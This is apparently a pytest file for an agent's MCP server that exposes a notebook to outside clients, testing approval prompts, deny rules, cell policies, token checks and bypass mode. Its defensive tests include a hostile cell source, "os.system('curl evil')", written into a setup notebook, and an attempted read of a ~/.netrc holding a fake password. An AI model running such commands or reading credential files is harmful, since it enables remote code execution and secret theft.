"""The open notebook served to an outside agent over MCP (loop/mcp_serve.py), as Claude Code connects.

A real server on 127.0.0.1 and the `mcp` SDK's streamable-HTTP client; the page is the fake front
end (tests/support/frontend.py) connected in-process. Checked as the person and the outside agent
notice it: the tools listed, the cells read, an edit asked (and applied only once allowed), denied
by a deny rule, refused by a cell policy; a wrong token answered 401; every call in the
conversation's trace with the client's name. The attacks come with their control: the same call
made on the tool directly, without the lifecycle, goes through.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import httpx2
import pytest

from ipy_agent import Agent, ScriptedModel
from ipy_agent.contract.decision import UNDECIDED
from ipy_agent.contract.read_state import ReadState
from ipy_agent.loop.mcp_serve import SERVED_TOOLS, McpServeHandle, connect_lines
from ipy_agent.permissions.decide import PermissionRequest
from ipy_agent.ui.inspection import inspect_text, trace_text
from tests.support.frontend import Panel, cell, connected_bridge

T = TypeVar("T")
NB = "analysis.ipynb"
CLIENT = "claude-code"


def page() -> Panel:
    return Panel(
        path=NB,
        cells=[
            cell("# Analysis", "markdown", cell_id="md0"),
            cell("x = 1", cell_id="c1"),
            cell("kept = 1", cell_id="keep", tags=["agent:read-only"]),
        ],
    )


class Asked:
    """An approver that records what it was asked and answers `answer`."""

    def __init__(self, answer: str = "allow") -> None:
        self.answer = answer
        self.requests: list[PermissionRequest] = []

    def __call__(self, request: PermissionRequest) -> str:
        self.requests.append(request)
        return self.answer


def serve(tmp_path: Path, panel: Panel, approver: Any, **settings: Any) -> tuple[Agent, McpServeHandle]:
    bridge = connected_bridge(panel, tmp_path)
    agent = Agent(model=ScriptedModel(["unused"]), cwd=tmp_path, notebook=bridge, **settings)
    return agent, agent.serve_mcp(approver=approver)


@pytest.fixture
def stop() -> Iterator[list[McpServeHandle]]:
    handles: list[McpServeHandle] = []
    yield handles
    for h in handles:
        h.stop()


def as_client(handle: McpServeHandle, work: Callable[[Any], Awaitable[T]], token: str | None = None) -> T:
    """Connect as Claude Code would (streamable HTTP, the bearer header) and run `work(session)`."""
    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client
    from mcp_types import Implementation

    async def main() -> T:
        headers = {"Authorization": f"Bearer {token or handle.token}"}
        async with (
            httpx2.AsyncClient(headers=headers, timeout=30) as http,
            streamable_http_client(handle.url, http_client=http) as streams,
            ClientSession(streams[0], streams[1], client_info=Implementation(name=CLIENT, version="1")) as session,
        ):
            await session.initialize()
            return await work(session)

    return asyncio.run(main())


def text_of(result: Any) -> str:
    return "\n".join(c.text for c in result.content if c.type == "text")


def edit(session: Any, source: str, cell_id: str = "c1") -> Awaitable[Any]:
    return session.call_tool("NotebookEdit", {"notebook_path": NB, "cell_id": cell_id, "new_source": source})


def test_a_client_lists_the_served_tools_and_reads_the_cells(tmp_path: Path, stop: list[McpServeHandle]):
    agent, handle = serve(tmp_path, page(), Asked())
    stop.append(handle)

    async def work(session: Any) -> tuple[list[str], Any]:
        listed = await session.list_tools()
        return [t.name for t in listed.tools], await session.call_tool("NotebookRead", {})

    names, read = as_client(handle, work)

    assert sorted(names) == sorted(SERVED_TOOLS)
    assert not read.is_error
    assert "x = 1" in text_of(read) and "kept = 1" in text_of(read)
    (record,) = agent.trace
    assert (record.tool_name, record.client, record.status) == ("NotebookRead", CLIENT, "done")
    assert record.display_name == f"NotebookRead · via {CLIENT}"  # what the row and the record show
    assert f"via {CLIENT}" in trace_text(agent) and f"outside MCP client: {CLIENT}" in inspect_text(agent)


def test_an_edit_asks_the_person_and_lands_only_when_allowed(tmp_path: Path, stop: list[McpServeHandle]):
    panel = page()
    approver = Asked("deny")
    agent, handle = serve(tmp_path, panel, approver)
    stop.append(handle)

    async def work(session: Any) -> tuple[Any, Any, Any]:
        before = await edit(session, "x = 2")  # not read yet: edit-before-read holds for the client
        await session.call_tool("NotebookRead", {})
        declined = await edit(session, "x = 2")
        approver.answer = "allow"
        return before, declined, await edit(session, "x = 3")

    unread, declined, allowed = as_client(handle, work)

    assert unread.is_error and [r.tool_name for r in approver.requests].count("NotebookEdit") == 2
    assert declined.is_error and "declined" in text_of(declined)
    assert not allowed.is_error
    assert panel.sources() == ["# Analysis", "x = 3", "kept = 1"]
    edits = [r for r in agent.trace if r.tool_name == "NotebookEdit"]
    assert [r.status for r in edits] == ["error", "denied", "done"]
    assert all(r.client == CLIENT for r in agent.trace)
    assert edits[-1].decision is not None and edits[-1].decision.source == "person"


def test_a_deny_rule_holds_for_an_outside_client(tmp_path: Path, stop: list[McpServeHandle]):
    panel = page()
    approver = Asked("allow")
    agent, handle = serve(tmp_path, panel, approver, deny=["NotebookEdit"])
    stop.append(handle)

    async def work(session: Any) -> tuple[list[str], Any]:
        names = [t.name for t in (await session.list_tools()).tools]
        await session.call_tool("NotebookRead", {})
        return names, await edit(session, "x = 2")

    names, denied = as_client(handle, work)

    assert "NotebookEdit" not in names
    assert denied.is_error and panel.sources() == ["# Analysis", "x = 1", "kept = 1"]
    assert approver.requests == []  # never even asked

    # The control: the same edit on the tool itself, without the lifecycle, lands.
    tool = agent.tool("NotebookEdit")
    assert tool is not None
    ctx = agent.tool_context("control")
    read = agent.tool("NotebookRead")
    assert read is not None

    async def direct() -> None:
        await read.call(read.input_model.model_validate({}), ctx, UNDECIDED)
        inp = tool.input_model.model_validate({"notebook_path": NB, "cell_id": "c1", "new_source": "x = 2"})
        await tool.call(inp, ctx, UNDECIDED)

    asyncio.run(direct())
    assert panel.sources() == ["# Analysis", "x = 2", "kept = 1"]


def test_a_cell_policy_refuses_an_outside_edit(tmp_path: Path, stop: list[McpServeHandle]):
    panel = page()
    approver = Asked("allow")
    agent, handle = serve(tmp_path, panel, approver, permission_mode="bypassPermissions")
    stop.append(handle)

    async def work(session: Any) -> Any:
        await session.call_tool("NotebookRead", {})
        return await edit(session, "kept = 2", cell_id="keep")

    refused = as_client(handle, work)

    assert refused.is_error and "read-only for the agent" in text_of(refused)
    assert panel.sources() == ["# Analysis", "x = 1", "kept = 1"]
    assert agent.trace[-1].client == CLIENT

    # The control: in the same mode, the same client's edit of a free cell lands.
    landed = as_client(handle, lambda s: edit(s, "x = 2"))
    assert not landed.is_error and panel.sources() == ["# Analysis", "x = 2", "kept = 1"]


def test_a_protected_surface_asks_an_outside_client_even_in_bypass_mode(tmp_path: Path, stop: list[McpServeHandle]):
    """NotebookEdit of a notebook under `.ipy_agent/` (what runs later): asked every time."""
    import nbformat

    target = tmp_path / ".ipy_agent" / "setup.ipynb"
    target.parent.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("safe = 1")]
    nb.cells[0].id = "s1"
    nbformat.write(nb, target)
    before = target.read_text()
    approver = Asked("deny")
    agent, handle = serve(tmp_path, page(), approver, permission_mode="bypassPermissions")
    stop.append(handle)
    args = {"notebook_path": str(target), "cell_id": "s1", "new_source": "import os; os.system('curl evil')"}

    async def work(session: Any) -> Any:
        await session.call_tool("Read", {"file_path": str(target)})
        return await session.call_tool("NotebookEdit", args)

    denied = as_client(handle, work)

    assert denied.is_error and target.read_text() == before
    assert [r.tool_name for r in approver.requests] == ["NotebookEdit"]  # asked, in bypass mode
    assert agent.trace[-1].status == "denied" and agent.trace[-1].client == CLIENT

    # The control: the tool called directly, without the lifecycle, writes the file.
    read, tool = agent.tool("Read"), agent.tool("NotebookEdit")
    assert read is not None and tool is not None
    ctx = agent.tool_context("control")

    async def direct() -> None:
        await read.call(read.input_model.model_validate({"file_path": str(target)}), ctx, UNDECIDED)
        await tool.call(tool.input_model.model_validate(args), ctx, UNDECIDED)

    asyncio.run(direct())
    assert "curl evil" in target.read_text()


def test_a_credential_file_stays_denied_in_bypass_mode(
    tmp_path: Path, stop: list[McpServeHandle], monkeypatch: pytest.MonkeyPatch
):
    """Read of `~/.netrc`: the built-in deny rule holds for an outside client in bypass mode."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    secret = home / ".netrc"
    secret.write_text("machine example.com password sk-secret-value\n")
    agent, handle = serve(tmp_path, page(), Asked("allow"), permission_mode="bypassPermissions")
    stop.append(handle)

    got = as_client(handle, lambda s: s.call_tool("Read", {"file_path": str(secret)}))

    assert got.is_error and "sk-secret-value" not in text_of(got)
    assert agent.trace[-1].status == "denied"

    # The control: Read called directly returns the file.
    tool = agent.tool("Read")
    assert tool is not None
    ctx = agent.tool_context("control")
    out = asyncio.run(tool.call(tool.input_model.model_validate({"file_path": str(secret)}), ctx, UNDECIDED))
    assert "sk-secret-value" in str(out)


def test_a_wrong_or_missing_token_gets_401(tmp_path: Path, stop: list[McpServeHandle]):
    agent, handle = serve(tmp_path, page(), Asked())
    stop.append(handle)
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    accept = {"Accept": "application/json, text/event-stream"}

    wrong = httpx2.post(handle.url, json=body, headers={**accept, "Authorization": "Bearer not-the-token"})
    missing = httpx2.post(handle.url, json=body, headers=accept)

    assert (wrong.status_code, missing.status_code) == (401, 401)
    assert agent.trace == []
    # The right token passes the door (the MCP session then starts with initialize).
    assert as_client(handle, lambda s: s.list_tools()).tools


def test_the_server_listens_on_loopback_and_stops(tmp_path: Path):
    agent, handle = serve(tmp_path, page(), Asked())
    assert handle.url.startswith("http://127.0.0.1:") and handle.url.endswith("/mcp")
    claude, codex = connect_lines(handle)
    assert claude == (
        f'claude mcp add --transport http notebook {handle.url} --header "Authorization: Bearer {handle.token}"'
    )
    assert handle.url in codex

    agent.close()

    assert handle.stopped and agent.served is None
    with pytest.raises(httpx2.ConnectError):
        httpx2.post(handle.url, json={}, headers={"Authorization": f"Bearer {handle.token}"})


def test_each_client_has_its_own_read_state(tmp_path: Path, stop: list[McpServeHandle]):
    agent, handle = serve(tmp_path, page(), Asked())
    stop.append(handle)
    as_client(handle, lambda s: s.call_tool("NotebookRead", {}))
    assert isinstance(handle._calls.read_states[CLIENT], ReadState)
    assert handle.clients == [CLIENT]
    assert len(handle._calls.read_states[CLIENT]) > 0
    assert len(agent.read_state) == 0  # the conversation's own model has read nothing
